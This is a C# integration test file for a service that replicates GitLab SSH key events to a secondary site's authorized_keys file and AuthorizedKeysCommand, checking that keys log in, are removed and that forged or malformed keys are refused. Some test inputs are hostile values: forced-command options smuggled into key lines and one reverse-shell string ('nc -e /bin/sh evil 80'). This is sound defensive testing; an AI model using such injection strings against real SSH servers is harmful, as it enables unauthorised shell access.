using System.Net;
using System.Text.Json.Nodes;
using Geo.Events.Contracts;
using Geo.Events.Core.Keys;
using Geo.Events.Core.Messaging;
using Geo.Events.Testing;
using MassTransit;
using static Geo.Events.IntegrationTests.KeyEvents;

namespace Geo.Events.IntegrationTests;

/// <summary>
/// key_create and key_destroy, posted to geo-primary over HTTP, decide who can log in to a real sshd on the
/// secondary: through the authorized_keys file geo-secondary writes, or through AuthorizedKeysCommand.
/// </summary>
[TestClass]
public sealed class KeysTests
{
    private static async Task<(string Private, string Public)> KeyPairAsync(string folder, string type)
    {
        Directory.CreateDirectory(folder);
        var path = Path.Combine(folder, "id_" + type + Guid.NewGuid().ToString("N")[..6]);
        await Shell.RunAsync("ssh-keygen", folder, ["-q", "-t", type, .. (type == "rsa" ? new[] { "-b", "3072" } : []), "-N", "", "-C", "jsmith@laptop", "-f", path]);
        return (path, (await File.ReadAllTextAsync(path + ".pub")).Trim());
    }

    private static Task WaitForLoginAsync(SshServer sshd, string privateKey, string expectedOutput) =>
        GeoSite.WaitUntilAsync(async () =>
        {
            var (code, output) = await sshd.LoginAsync(privateKey);
            return code == 0 && output == expectedOutput;
        }, TimeSpan.FromSeconds(60), () => $"login never printed '{expectedOutput}'\n{sshd.SafeLog()}");

    private static Task WaitForRefusalAsync(SshServer sshd, string privateKey) =>
        GeoSite.WaitUntilAsync(async () =>
        {
            var (code, output) = await sshd.LoginAsync(privateKey);
            return code == 255 && output.Contains("Permission denied", StringComparison.Ordinal);
        }, TimeSpan.FromSeconds(60), () => $"the key still logs in\n{sshd.SafeLog()}");

    [TestMethod]
    public async Task AKeyAddedOnThePrimaryLogsInThroughTheAuthorizedKeysFileAndStopsWhenDestroyed()
    {
        await using var sshd = await SshServer.CreateAsync();
        const string foreignLine = "# kept: a line geo-secondary does not manage";
        await File.WriteAllTextAsync(sshd.AuthorizedKeysFile, foreignLine + "\n");
        await using var site = await GeoSite.StartAsync(["tokyo"], secondarySettings: new Dictionary<string, string>
        {
            ["Keys:AuthorizedKeysFile"] = sshd.AuthorizedKeysFile,
            ["Keys:ShellCommand"] = sshd.GitLabShell,
            ["Keys:SshUser"] = SshServer.User,
        });
        await sshd.StartAsync();
        var ed25519 = await KeyPairAsync(Path.Combine(site.Root, "keys"), "ed25519");
        var rsa = await KeyPairAsync(Path.Combine(site.Root, "keys"), "rsa");

        Assert.AreEqual(255, (await sshd.LoginAsync(ed25519.Private)).ExitCode, "a key nobody added logged in");

        await site.Hooks.AcceptedAsync(Hooks.Key("key_create", 101, ed25519.Public));
        await site.Hooks.AcceptedAsync(Hooks.Key("key_create", 102, rsa.Public));
        await WaitForLoginAsync(sshd, ed25519.Private, "gitlab-shell key-101");
        await WaitForLoginAsync(sshd, rsa.Private, "gitlab-shell key-102");

        await site.Hooks.AcceptedAsync(Hooks.Key("key_destroy", 101, ed25519.Public));
        await WaitForRefusalAsync(sshd, ed25519.Private);
        Assert.AreEqual("gitlab-shell key-102", (await sshd.LoginAsync(rsa.Private)).Output, "destroying one key removed another");

        var lines = await File.ReadAllLinesAsync(sshd.AuthorizedKeysFile);
        Assert.AreEqual(foreignLine, lines[0], "a line we do not manage was lost");
        Assert.AreEqual(2, lines.Length);
        Assert.IsFalse(lines[1].Contains("jsmith@laptop", StringComparison.Ordinal), "the key's comment was copied into authorized_keys");
    }

    /// <summary>
    /// GitLab accepts DSA keys by default (dsa_key_restriction 0). The secondary writes the line; whether it logs in is
    /// sshd's decision: OpenSSH 9.2 (Debian 12) still supports DSA but turned it off by default, so this sshd and client
    /// turn it on, and the key logs in.
    /// </summary>
    [TestMethod]
    public async Task ADsaKeyLogsInThroughAnSshdThatAcceptsDsa()
    {
        await using var sshd = await SshServer.CreateAsync();
        await using var site = await GeoSite.StartAsync(["tokyo"], secondarySettings: new Dictionary<string, string>
        {
            ["Keys:AuthorizedKeysFile"] = sshd.AuthorizedKeysFile,
            ["Keys:ShellCommand"] = sshd.GitLabShell,
            ["Keys:SshUser"] = SshServer.User,
        });
        await sshd.StartAsync(extraConfig: "PubkeyAcceptedAlgorithms +ssh-dss");
        var dsa = await KeyPairAsync(Path.Combine(site.Root, "keys"), "dsa");

        await site.Hooks.AcceptedAsync(Hooks.Key("key_create", 111, dsa.Public));
        await GeoSite.WaitUntilAsync(async () =>
        {
            var (code, output) = await sshd.LoginAsync(dsa.Private, "PubkeyAcceptedAlgorithms=+ssh-dss");
            return code == 0 && output == "gitlab-shell key-111";
        }, TimeSpan.FromSeconds(60), () => $"the DSA key never logged in\n{sshd.SafeLog()}");
    }

    /// <summary>sshd runs the native program, or the .NET verb through a script: the same key logs in either way.</summary>
    [TestMethod]
    [DataRow("native")]
    [DataRow("dotnet")]
    public async Task AuthorizedKeysCommandAnswersFromTheRegistry(string program)
    {
        Assert.IsTrue(File.Exists(TestServers.AuthorizedKeysProgram), $"{TestServers.AuthorizedKeysProgram} is missing: `make build` (dotnet build of the solution) makes it; it needs clang");
        await using var sshd = await SshServer.CreateAsync();
        await using var site = await GeoSite.StartAsync(["tokyo"], secondarySettings: new Dictionary<string, string>
        {
            ["Keys:ShellCommand"] = sshd.GitLabShell,
            ["Keys:SshUser"] = SshServer.User,
        });
        var dotnet = (await Shell.RunAsync("sh", site.Root, "-c", "command -v dotnet")).Trim();
        var run = program == "native" ? $"exec '{TestServers.AuthorizedKeysProgram}' \"$@\"" : $"exec '{dotnet}' '{TestServers.SecondaryProgram}' authorized-keys \"$@\"";
        var command = await sshd.WriteScriptAsync("geo-authorized-keys", $"""
            export GEO_ConnectionStrings__Postgres='{TestServers.ConnectionString(site.SecondaryDatabase("tokyo"))}'
            export GEO_Keys__ShellCommand='{sshd.GitLabShell}'
            export GEO_Keys__SshUser='{SshServer.User}'
            {run}
            """);
        await sshd.StartAsync(authorizedKeysCommand: command);
        var key = await KeyPairAsync(Path.Combine(site.Root, "keys"), "ed25519");

        await site.Hooks.AcceptedAsync(Hooks.Key("key_create", 201, key.Public));
        await WaitForLoginAsync(sshd, key.Private, "gitlab-shell key-201");

        await site.Hooks.AcceptedAsync(Hooks.Key("key_destroy", 201, key.Public));
        await WaitForRefusalAsync(sshd, key.Private);
    }

    /// <summary>
    /// geo-authorized-keys and <c>geo-secondary authorized-keys</c> print the same line (or nothing) and exit with the
    /// same code for the same question, and both give the answers sshd needs: the live key's restricted line for the
    /// Git account only, nothing for a destroyed, unknown, forged or option-laden key, exit 1 when the registry or a
    /// setting is unusable, 2 for a wrong call.
    /// </summary>
    [TestMethod]
    public async Task TheNativeAuthorizedKeysCommandAnswersAsTheDotnetOne()
    {
        Assert.IsTrue(File.Exists(TestServers.AuthorizedKeysProgram), $"{TestServers.AuthorizedKeysProgram} is missing: `make build` (dotnet build of the solution) makes it; it needs clang");
        await using var site = await GeoSite.StartAsync(["tokyo"]);
        var live = SshPublicKey.Parse(TestKeys.RandomEd25519());
        var destroyed = SshPublicKey.Parse(TestKeys.RandomEd25519());
        var unknown = SshPublicKey.Parse(TestKeys.RandomEd25519());
        var other = SshPublicKey.Parse(TestKeys.RandomEd25519());
        await site.Hooks.AcceptedAsync(Hooks.Key("key_create", 301, live.ToString()));
        await site.Hooks.AcceptedAsync(Hooks.Key("key_create", 302, destroyed.ToString()));
        await site.Hooks.AcceptedAsync(Hooks.Key("key_destroy", 302, destroyed.ToString()));
        await GeoSite.WaitUntilAsync(
            async () => await site.QuerySecondaryAsync<long>("tokyo", "SELECT count(*) FROM ssh_keys WHERE key_id = 302 AND destroyed") == 1
                && await site.QuerySecondaryAsync<long>("tokyo", "SELECT count(*) FROM ssh_keys WHERE key_id = 301") == 1,
            TimeSpan.FromSeconds(60), () => "the keys never reached the secondary's registry");

        var connectionString = TestServers.ConnectionString(site.SecondaryDatabase("tokyo"));
        var settings = new Dictionary<string, string>
        {
            ["GEO_ConnectionStrings__Postgres"] = connectionString,
            ["GEO_Keys__ShellCommand"] = "/opt/gitlab/bin/gitlab-shell",
            ["GEO_Keys__SshUser"] = "git",
        };
        var liveLine = $"command=\"/opt/gitlab/bin/gitlab-shell key-301\",no-port-forwarding,no-X11-forwarding,no-agent-forwarding,no-pty {live}\n";
        // ConnectionStrings:AuthorizedKeys, when set, is the lookup's own connection (a role over the Unix socket): the
        // service's Postgres string is then not used, even when it could not connect.
        var ownConnection = new Dictionary<string, string>(settings)
        {
            ["GEO_ConnectionStrings__Postgres"] = "Host=127.0.0.1;Port=1;Username=geo;Password=secret-never-printed;Timeout=3",
            ["GEO_ConnectionStrings__AuthorizedKeys"] = await TestServers.SocketConnectionStringAsync(site.SecondaryDatabase("tokyo")),
        };
        var cases = new (string Case, string[] Args, Dictionary<string, string> Environment, int ExitCode, string Stdout)[]
        {
            ("live key", ["git", live.Type, live.Base64], settings, 0, liveLine),
            ("another account", ["root", live.Type, live.Base64], settings, 0, ""),
            ("destroyed key", ["git", destroyed.Type, destroyed.Base64], settings, 0, ""),
            ("unknown key", ["git", unknown.Type, unknown.Base64], settings, 0, ""),
            ("type that does not match the body", ["git", "ssh-rsa", other.Base64], settings, 0, ""),
            ("options smuggled in the type", ["git", "command=\"/bin/sh\" " + live.Type, live.Base64], settings, 0, ""),
            ("not base64", ["git", live.Type, live.Base64[..^3] + "!!!"], settings, 0, ""),
            ("wrong number of arguments", ["git", live.Type], settings, 2, ""),
            ("registry unreachable", ["git", live.Type, live.Base64], new(settings) { ["GEO_ConnectionStrings__Postgres"] = "Host=127.0.0.1;Port=1;Username=geo;Password=secret-never-printed;Timeout=3" }, 1, ""),
            ("no connection string", ["git", live.Type, live.Base64], new(settings) { ["GEO_ConnectionStrings__Postgres"] = "" }, 1, ""),
            ("malformed connection string", ["git", live.Type, live.Base64], new(settings) { ["GEO_ConnectionStrings__Postgres"] = "Hots=x;Password=secret-never-printed" }, 1, ""),
            ("its own connection string, over the Unix socket", ["git", live.Type, live.Base64], ownConnection, 0, liveLine),
            ("destroyed key, own connection string", ["git", destroyed.Type, destroyed.Base64], ownConnection, 0, ""),
            ("malformed own connection string", ["git", live.Type, live.Base64], new(settings) { ["GEO_ConnectionStrings__AuthorizedKeys"] = "Hots=x;Password=secret-never-printed" }, 1, ""),
            ("unsafe shell command", ["git", live.Type, live.Base64], new(settings) { ["GEO_Keys__ShellCommand"] = "/bin/x\",from=\"*" }, 1, ""),
        };
        foreach (var (name, args, environment, exitCode, stdout) in cases)
        {
            var native = await Shell.RunCapturedAsync(TestServers.AuthorizedKeysProgram, args, environment);
            var dotnet = await Shell.RunCapturedAsync("dotnet", [TestServers.SecondaryProgram, "authorized-keys", .. args], environment);
            Assert.AreEqual((exitCode, stdout), (native.ExitCode, native.Stdout), $"{name}: geo-authorized-keys answered wrongly (stderr: {native.Stderr})");
            Assert.AreEqual((native.ExitCode, native.Stdout), (dotnet.ExitCode, dotnet.Stdout), $"{name}: the two programs differ");
            Assert.AreEqual(native.Stderr.Replace("geo-authorized-keys", "PROGRAM", StringComparison.Ordinal), dotnet.Stderr.Replace("geo-secondary authorized-keys", "PROGRAM", StringComparison.Ordinal), $"{name}: the two programs explain differently");
            Assert.IsFalse(native.Stderr.Contains("secret-never-printed", StringComparison.Ordinal), $"{name}: the password was printed");
        }
    }

    [TestMethod]
    public async Task AnOlderEventNeverOverridesANewerOneAndDuplicatesChangeNothing()
    {
        await using var site = await GeoSite.StartAsync(["tokyo"], startSecondaries: false);
        var file = Path.Combine(site.Root, "authorized_keys");
        site.StartSecondary("tokyo", new Dictionary<string, string> { ["Keys:AuthorizedKeysFile"] = file });
        var key = SshPublicKey.Parse("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+");

        await using (var bus = await site.ForgeryBusAsync())
        {
            // Delivered out of order: destroy (sequence 9) first, then a late create (sequence 5).
            await bus.Publish(Destroyed(300, 9));
            await bus.Publish(Created(300, 5, key));
            // The same create twice, and a live key as a marker that the file was written.
            await bus.Publish(Created(301, 10, key));
            await bus.Publish(Created(301, 10, key));
        }

        await GeoSite.WaitUntilAsync(async () => (await site.QueueStatsAsync("geo.secondary.tokyo")).Acknowledged >= 4,
            TimeSpan.FromSeconds(60), () => "the four events were not all consumed");

        // A barrier rather than a pause: a key created after all four were applied. The file is rewritten from
        // the registry, so once it shows this key it shows whatever the four did too.
        var marker = SshPublicKey.Parse(TestKeys.RandomEd25519());
        await using (var bus = await site.ForgeryBusAsync())
        {
            await bus.Publish(Created(302, 11, marker));
        }

        await GeoSite.WaitUntilAsync(async () => File.Exists(file) && (await File.ReadAllTextAsync(file)).Contains("key-302", StringComparison.Ordinal),
            TimeSpan.FromSeconds(60), () => "the key created after the four never reached authorized_keys");

        var lines = await File.ReadAllLinesAsync(file);
        CollectionAssert.AreEquivalent(new[] { AuthorizedKeysLine(301, key), AuthorizedKeysLine(302, marker) }, lines);
        Assert.IsTrue(await site.QuerySecondaryAsync<bool>("tokyo", "SELECT destroyed FROM ssh_keys WHERE key_id = 300"));
        Assert.AreEqual(9L, await site.QuerySecondaryAsync<long>("tokyo", "SELECT sequence FROM ssh_keys WHERE key_id = 300"));
        Assert.AreEqual(0L, await site.QueryPrimaryAsync<long>("SELECT count(*) FROM dead_letters"));
    }

    [TestMethod]
    [DataRow("ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+\ncommand=\"/bin/sh\" ssh-ed25519 AAAA")]
    [DataRow("command=\"/bin/sh\" ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+")]
    [DataRow("ssh-rsa", "AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+")]
    public async Task AForgedKeyThatReachesTheSecondaryIsRefusedThere(string type, string blob)
    {
        await using var site = await GeoSite.StartAsync(["tokyo"], startSecondaries: false);
        var file = Path.Combine(site.Root, "authorized_keys");
        site.StartSecondary("tokyo", new Dictionary<string, string> { ["Keys:AuthorizedKeysFile"] = file });

        await using (var bus = await site.ForgeryBusAsync())
        {
            await bus.Publish(new SshKeyCreated
            {
                EventId = Guid.NewGuid(),
                Sequence = 1,
                OccurredAt = DateTimeOffset.UtcNow,
                KeyId = 400,
                Username = "mallory",
                KeyType = type,
                KeyBlob = blob,
                Fingerprint = "SHA256:x",
            });
        }

        // Refused at once (no retries) into the error queue, and from there into geo-primary's dead letters.
        await GeoSite.WaitUntilAsync(
            async () => await site.QueryPrimaryAsync<long>("SELECT count(*) FROM dead_letters WHERE exception_type LIKE '%InvalidSshKeyException' AND redelivery_count IS NULL") == 1,
            TimeSpan.FromSeconds(60), () => "the forged key did not land in the error queue");
        Assert.AreEqual(0L, await site.QuerySecondaryAsync<long>("tokyo", "SELECT count(*) FROM ssh_keys"));
        var content = File.Exists(file) ? await File.ReadAllTextAsync(file) : "";
        Assert.IsFalse(content.Contains("key-400", StringComparison.Ordinal) || content.Contains("/bin/sh", StringComparison.Ordinal), content);
    }

    [TestMethod]
    public async Task ABurstOfKeyEventsIsWrittenInAFewRewrites()
    {
        await using var site = await GeoSite.StartAsync(["tokyo"], startSecondaries: false);
        var file = Path.Combine(site.Root, "authorized_keys");
        site.StartSecondary("tokyo", new Dictionary<string, string> { ["Keys:AuthorizedKeysFile"] = file });
        const int count = 300;
        var keys = Enumerable.Range(0, count).Select(_ => TestKeys.RandomEd25519()).ToArray();

        await Parallel.ForEachAsync(Enumerable.Range(0, count), new ParallelOptions { MaxDegreeOfParallelism = 8 },
            async (i, _) => await site.Hooks.AcceptedAsync(Hooks.Key("key_create", 1000 + i, keys[i])));

        await GeoSite.WaitUntilAsync(async () => File.Exists(file) && (await File.ReadAllLinesAsync(file)).Length == count,
            TimeSpan.FromSeconds(60), () => "not every key reached authorized_keys");
        // geo-secondary counts its rewrites (one at start, with no keys, then the burst's): at least two, few.
        using var http = new HttpClient { BaseAddress = site.SecondaryUrl("tokyo") };
        var rewrites = ObservabilityTests.Metric(await http.GetStringAsync("/metrics"), "geo_authorized_keys_rewrites_total");
        Assert.IsNotNull(rewrites, "geo-secondary does not report geo_authorized_keys_rewrites_total");
        Assert.IsTrue(rewrites is >= 2 && rewrites <= count / 10, $"{count} key events cost {rewrites} rewrites of authorized_keys");
        StringAssert.Contains(site.Secondary("tokyo").Log(), $"Rewrote {file} with {count} keys", "no rewrite wrote the whole burst");
    }

    [TestMethod]
    [DataRow("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+\nssh-ed25519 AAAAC3Nza",
        "the key contains a control character (newline, tab, NUL…); it must be one line")]
    [DataRow("command=\"nc -e /bin/sh evil 80\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+",
        "the key starts with options; only 'type base64 [comment]' is accepted")]
    [DataRow("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+\" x", "the key body is not valid base64 (truncated or altered?)")]
    [DataRow("ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWKWQ5r3hI52QskNgxdUHcZdM5kDQk+", "the key declares 'ssh-rsa' but its body is a 'ssh-ed25519' key")]
    [DataRow("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAZeD+GmfQ9mCiWK", "the key body is truncated or malformed for its type")]
    public async Task BadKeysAreRejectedAtIngest(string key, string reason)
    {
        await using var site = await GeoSite.StartAsync(["tokyo"], startSecondaries: false);
        using var response = await site.Hooks.PostAsync(Hooks.Key("key_create", 500, key));
        var body = await response.Content.ReadAsStringAsync();
        Assert.AreEqual(HttpStatusCode.UnprocessableEntity, response.StatusCode, body);
        // The reason is the 'key' field's, whole: the only field in error, one message, exactly this one.
        var errors = JsonNode.Parse(body)!["errors"]!.AsObject();
        CollectionAssert.AreEqual(new[] { "key" }, errors.Select(e => e.Key).ToArray(), body);
        CollectionAssert.AreEqual(new[] { "'key' is not an acceptable SSH public key: " + reason }, errors["key"]!.AsArray().Select(m => (string?)m).ToArray(), body);
        Assert.AreEqual(0L, await site.EventCountAsync());
    }

    [TestMethod]
    public async Task HundredKilobytesOfGarbageIsRejectedAtIngest()
    {
        await using var site = await GeoSite.StartAsync(["tokyo"], startSecondaries: false);
        using var response = await site.Hooks.PostAsync(Hooks.Key("key_create", 501, "ssh-rsa " + new string('Q', 100 * 1024)));
        Assert.AreEqual(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        StringAssert.Contains(await response.Content.ReadAsStringAsync(), "longer than");
        Assert.AreEqual(0L, await site.EventCountAsync());
    }

    // GitLab's key hooks carry "username" only for a key that belongs to a user (Gitlab::HookData::KeyBuilder#user_data):
    // a deploy key's key_create and key_destroy have none. Those keys must replicate too.
    [TestMethod]
    public async Task ADeployKeyWithoutAUsernameReplicatesAndIsDestroyed()
    {
        await using var site = await GeoSite.StartAsync(["tokyo"], startSecondaries: false);
        var file = Path.Combine(site.Root, "authorized_keys");
        site.StartSecondary("tokyo", new Dictionary<string, string> { ["Keys:AuthorizedKeysFile"] = file });
        var deployKey = SshPublicKey.Parse(TestKeys.RandomEd25519());
        var emptyNameKey = SshPublicKey.Parse(TestKeys.RandomEd25519());
        JsonObject Hook(string eventName, long id, SshPublicKey key, string? username)
        {
            var hook = Hooks.Key(eventName, id, $"{key.Type} {key.Base64}");
            hook.Remove("user_id");
            hook.Remove("username");
            if (username is not null)
            {
                hook["username"] = username;
            }

            return hook;
        }

        await site.Hooks.AcceptedAsync(Hook("key_create", 601, deployKey, username: null));
        await site.Hooks.AcceptedAsync(Hook("key_create", 602, emptyNameKey, username: ""));
        await GeoSite.WaitUntilAsync(async () => File.Exists(file) && (await File.ReadAllLinesAsync(file)).Length == 2,
            TimeSpan.FromSeconds(60), () => $"the keys without a username did not reach authorized_keys\n{site.Secondary("tokyo").Log()}");
        CollectionAssert.AreEqual(new[] { AuthorizedKeysLine(601, deployKey), AuthorizedKeysLine(602, emptyNameKey) }, await File.ReadAllLinesAsync(file));

        await site.Hooks.AcceptedAsync(Hook("key_destroy", 601, deployKey, username: null));
        await GeoSite.WaitUntilAsync(async () => (await File.ReadAllLinesAsync(file)).Length == 1,
            TimeSpan.FromSeconds(60), () => "the deploy key's key_destroy did not remove it");
        CollectionAssert.AreEqual(new[] { AuthorizedKeysLine(602, emptyNameKey) }, await File.ReadAllLinesAsync(file));
        Assert.AreEqual(0L, await site.QueryPrimaryAsync<long>("SELECT count(*) FROM dead_letters"));

        // A username that is present is still checked on the secondary: a forged one with a space is refused there.
        await using (var bus = await site.ForgeryBusAsync())
        {
            await bus.Publish(Created(603, 1, deployKey) with { Username = "two words" });
        }

        await GeoSite.WaitUntilAsync(
            async () => await site.QueryPrimaryAsync<long>("SELECT count(*) FROM dead_letters WHERE key_id = 603 AND exception_type LIKE '%InvalidSshKeyException'") == 1,
            TimeSpan.FromSeconds(60), () => "the forged username did not land in the error queue");
        Assert.AreEqual(0L, await site.QuerySecondaryAsync<long>("tokyo", "SELECT count(*) FROM ssh_keys WHERE key_id = 603"));
    }
}
